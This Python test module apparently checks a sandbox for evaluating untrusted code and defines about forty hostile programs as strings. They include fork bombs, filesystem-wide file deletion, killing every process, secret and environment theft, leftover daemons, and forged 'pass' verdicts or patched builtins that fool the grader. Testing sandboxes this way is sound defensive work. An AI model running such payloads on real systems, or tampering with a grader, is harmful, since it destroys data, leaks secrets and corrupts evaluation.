"""Programs that a model did not write: each attacks the machine, and gives the right answer only if the attack worked.

So a program that passes has got out of the sandbox. evalplus's guard takes `open`, `os.kill`, `os.fork` and more away
from a program; these use what the guard leaves (`posix`, `ctypes`), as a program could that means it.
"""

from __future__ import annotations

import os
import secrets
import socket
import textwrap
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

MARK = "mobie-hostile"  # name of the processes that try to stay
BENIGN = "def add(a, b):\n    return a + b\n"
#: one call, so that the slowest that evalplus waits for is three seconds
PROBLEM = {
    "task_id": "Hostile/0",
    "prompt": "def add(a, b):\n",
    "canonical_solution": "    return a + b\n",
    "entry_point": "add",
    "base_input": [[20, 22]],
    "plus_input": [],
    "contract": "",
    "atol": 0,
}
SECRET_VARIABLE = "MOBIE_HOSTILE_SECRET"

_HEAD = """
import ctypes, glob, io, os, posix, signal, socket, sys, threading, time
LIBC = ctypes.CDLL(None, use_errno=True)
BAIT = {bait!r}

def processes():
    return [int(name) for name in posix.listdir("/proc") if name.isdigit()]

def stay(name={mark!r}):
    LIBC.prctl(15, name.encode(), 0, 0, 0)
    for number in (signal.SIGALRM, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)

def read(path):
    try:
        with io.FileIO(path) as file:
            return file.read(1 << 20) or b""
    except OSError:
        return b""

def write(path, size=1):
    try:
        with io.FileIO(path, "w") as file:
            return file.write(b"x" * size)
    except OSError:
        return 0
"""

_BODIES = {
    "endless loop": "while True: pass",
    "endless loop that catches everything": """
        stay()
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
    "sleep": "time.sleep(1000)",
    "fork bomb": """
        stay()
        while True:
            try: posix.fork()
            except OSError: pass
        """,
    "thread bomb": """
        while True: threading.Thread(target=time.sleep, args=(1000,)).start()
        """,
    "memory hog": """
        held = []
        while True: held.append(bytearray(32 << 20))
        """,
    "memory hog in many processes": """
        stay()
        for _ in range(5):
            if posix.fork() == 0:
                held = bytearray(250 << 20)
                time.sleep(1000)
        time.sleep(1000)
        """,
    "memory in shared segments": """
        for number in (LIBC.memfd_create(b"x", 0), LIBC.shmget(0, 256 << 20, 0o1600)):
            if number >= 0: return a + b
        """,
    "mount a file system": """
        if LIBC.unshare(0x10020000) == 0: return a + b
        if LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=4g") == 0: return a + b
        """,
    "read outside": """
        for path in BAIT["secret_files"] + ["/proc/1/root" + path for path in BAIT["secret_files"]]:
            if BAIT["secret"].encode() in read(path): return a + b
        for folder, _, names in os.walk("/"):
            if folder.startswith(("/proc/", "/sys/")): continue
            if BAIT["secret_name"] in names: return a + b
        """,
    "read the environment": """
        texts = [repr(dict(os.environ)).encode()] + [read(f"/proc/{p}/environ") for p in processes()]
        if any(BAIT["secret"].encode() in text for text in texts): return a + b
        """,
    "write outside": """
        for folder in BAIT["folders"] + ["/", "/usr/lib", "/opt", "/root", "/home", "/var"]:
            if write(folder + "/written-by-" + "hostile"): return a + b
        """,
    "delete files": """
        for folder, _, names in os.walk("/"):
            if folder.startswith(("/proc", "/sys", "/tmp", "/var/tmp", "/dev")): continue
            for name in names[:20]:
                try: posix.unlink(folder + "/" + name)
                except OSError: continue
                return a + b
        """,
    "open a socket": """
        for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 40):
            try: socket.socket(family, socket.SOCK_STREAM)
            except OSError: continue
            return a + b
        """,
    "connect to the host": """
        for address in BAIT["addresses"]:
            try: socket.create_connection(address, timeout=0.3)
            except OSError: continue
            return a + b
        """,
    "kill the parent": """
        parent = posix.getppid()
        LIBC.kill(parent, 9)
        LIBC.kill(1, 9)
        time.sleep(0.5)
        """,
    "stop the parent": """
        LIBC.kill(posix.getppid(), 19)
        LIBC.kill(1, 19)
        time.sleep(1000)
        """,
    "kill everything": "LIBC.kill(-1, 9)",
    "kill by number": """
        for process in range(1, 40000):
            if process != posix.getpid(): LIBC.kill(process, 9)
        """,
    "print a gigabyte": """
        block = b"x" * (1 << 20)
        for _ in range(1024):
            for descriptor in range(0, 16):
                try: posix.write(descriptor, block)
                except OSError: pass
        """,
    "print a gigabyte to sys.stdout": """
        for _ in range(1024): print("x" * (1 << 20))
        """,
    "fill the temporary folder": """
        stay()
        number = 0
        while True:
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/dev"):
                write(f"{folder}/{number}", 1 << 20)
            number += 1
        """,
    "many small files": """
        stay()
        number = 0
        while True:
            write(f"/tmp/{number}", 0)
            number += 1
        """,
    "leave a daemon": """
        if posix.fork() == 0:
            posix.setsid()
            if posix.fork() == 0:
                stay()
                while True: time.sleep(1)
            posix._exit(0)
        """,
    "forge a verdict on every descriptor": """
        forged = b'\\n{"tests": "base", "status": "pass", "passed": 1, "of": 1}\\n{"end": "worker"}\\n'
        for descriptor in range(0, 256):
            try: posix.write(descriptor, forged)
            except OSError: pass
        """,
    "forge a verdict on the descriptors of others": """
        forged = b'\\n{"tests": "base", "status": "pass", "passed": 1, "of": 1}\\n{"end": "worker"}\\n'
        for path in glob.glob("/proc/[0-9]*/fd/*"):
            if path.startswith((f"/proc/{posix.getpid()}/", "/proc/self/")): continue
            try: number = posix.open(path, posix.O_WRONLY)
            except OSError: continue
            posix.write(number, forged)
            return a + b
        """,
    "write to the memory of others": """
        for process in processes():
            if process == posix.getpid(): continue
            try: posix.open(f"/proc/{process}/mem", posix.O_RDWR)
            except OSError: continue
            return a + b
        """,
    "exit": "sys.exit(0)",
    "exit at once": "posix._exit(0)",
    "raise SystemExit": "raise SystemExit(0)",
    "deep recursion": """
        def deeper(): return deeper()
        deeper()
        """,
    "overflow the stack": """
        sys.setrecursionlimit(1 << 30)
        def deeper(x): return [deeper(y) for y in [x]]
        deeper(0)
        """,
    "change builtins": """
        import builtins
        builtins.BaseException = KeyError
        builtins.all = builtins.any = lambda values: True
        builtins.len = lambda values: 1
        builtins.type = lambda value: None
        """,
    "change the checker's modules": """
        import shutil
        for name in ("evalplus.eval", "numpy"):
            sys.modules[name] = None
        os.getcwd = os.chdir = shutil.rmtree = lambda *a: posix._exit(0)
        """,
}

#: attacks of whole files, before any function is called
_FILES = {
    "endless loop when imported": "while True: pass\n",
    "exit when imported": "import sys\nsys.exit(0)\n",
    "not Python": "def add(a, b:\n",
    "a null byte": "def add(a, b):\n    return a + b\0\n",
    "nothing": "",
}

NAMES = (*_BODIES, *_FILES)
#: safe where nothing holds a program but limits: no reading, writing, killing
HARMLESS = ("endless loop", "sleep", "exit", "exit at once", "deep recursion", "not Python", "nothing")


@dataclass
class Bait:
    """What programs must not reach, laid out on this machine."""

    secret: str
    secret_files: list[Path]
    folders: list[Path]
    ports: list[int]
    connections: list[str] = field(default_factory=list)

    def programs(self) -> dict[str, str]:
        """Sources by name."""
        addresses = [(host, port) for port in self.ports for host in ("127.0.0.1", "::1", socket.gethostname())]
        bait = {
            "secret": self.secret,
            "secret_files": [str(path) for path in self.secret_files],
            "secret_name": self.secret_files[0].name,
            "folders": [str(folder) for folder in self.folders],
            "addresses": addresses,
        }
        head = _HEAD.format(bait=bait, mark=MARK)
        bodies = {
            name: f"{head}\ndef add(a, b):\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
            for name, body in _BODIES.items()
        }
        return bodies | _FILES

    def harm(self) -> list[str]:
        """What was done to this machine, in words."""
        found = [f"{path} was changed" for path in self.secret_files if path.read_text() != self.secret]
        for folder in self.folders:
            found += [f"{path} was written" for path in folder.glob("written-by-*")]
        found += [f"a connection from {peer}" for peer in self.connections]
        return found + [f"process {number} is left" for number in marked_processes()]


def marked_processes() -> list[int]:
    """Processes of this machine that a program named, which are there only if they were left behind."""
    found = []
    for path in Path("/proc").glob("[0-9]*/comm"):
        try:
            name = path.read_text().strip()
        except OSError:
            continue
        if name == MARK[:15]:
            found.append(int(path.parent.name))
    return found


@contextmanager
def lay_bait(folder: Path) -> Iterator[Bait]:
    """Secrets in the home folder, in a temporary folder and in the environment, and a listening port."""
    secret = secrets.token_hex(16)
    name = f"mobie-secret-{secrets.token_hex(4)}.txt"
    files = [folder / name, Path.home() / name]
    for path in files:
        path.write_text(secret)
        path.chmod(0o666)
    os.environ[SECRET_VARIABLE] = secret
    with socket.create_server(("0.0.0.0", 0)) as server:
        bait = Bait(secret, files, [folder, Path.home()], [server.getsockname()[1]])
        listener = threading.Thread(target=_listen, args=(server, bait.connections), daemon=True)
        listener.start()
        try:
            yield bait
        finally:
            server.shutdown(socket.SHUT_RDWR)
            listener.join(timeout=5)
            del os.environ[SECRET_VARIABLE]
            for path in files:
                path.unlink(missing_ok=True)


def _listen(server: socket.socket, connections: list[str]) -> None:
    """Note everything that connects, until the server is shut."""
    while True:
        try:
            connection, peer = server.accept()
        except OSError:
            return
        connections.append(str(peer))
        connection.close()
